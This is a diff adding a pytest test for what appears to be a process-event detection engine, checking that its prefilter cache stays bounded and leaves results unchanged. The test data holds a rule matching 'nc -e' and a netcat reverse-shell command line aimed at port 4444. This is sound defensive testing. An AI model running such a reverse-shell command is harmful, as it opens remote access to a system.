@@ -219,3 +219,23 @@ def test_or_of_regex_selections_is_combined_and_exact(prefilter: bool) -> None:
         if expected:
             (m,) = engine.match(event)
             assert m.field in ("CommandLine", "ParentCommandLine") and m.text
+
+
+def test_prefilter_memo_is_bounded_and_transparent(monkeypatch: pytest.MonkeyPatch) -> None:
+    from watchkeeper.detect import _engine
+
+    monkeypatch.setattr(_engine, "_MEMO_SIZE", 8)
+    sel = ("c", "process_creation", "sel:\n  CommandLine|contains: 'nc -e'\n  Image|endswith: '/nc'\ncondition: sel")
+    engine = Engine(rules(sel))
+    hit = ProcessEvent(image="/usr/bin/nc", command_line="nc -e /bin/sh 10.0.0.1 4444")
+    for i in range(40):
+        # the same image text every time (memoised), a new command line each time
+        miss = ProcessEvent(image="/usr/bin/nc", command_line=f"nc -z host {i}")
+        assert engine.matches(miss) == []
+        assert [r.id for r in engine.matches(hit)] == ["c"]
+    route = engine._routes["process_creation"]
+    assert 0 < len(route._memo) <= 8
+    monkeypatch.setattr(_engine, "_MEMO_CHARS", 100)
+    for i in range(40):
+        assert engine.matches(ProcessEvent(image="/usr/bin/nc", command_line="x" * 30 + str(i))) == []
+        assert route._memo_chars <= 100 + 32
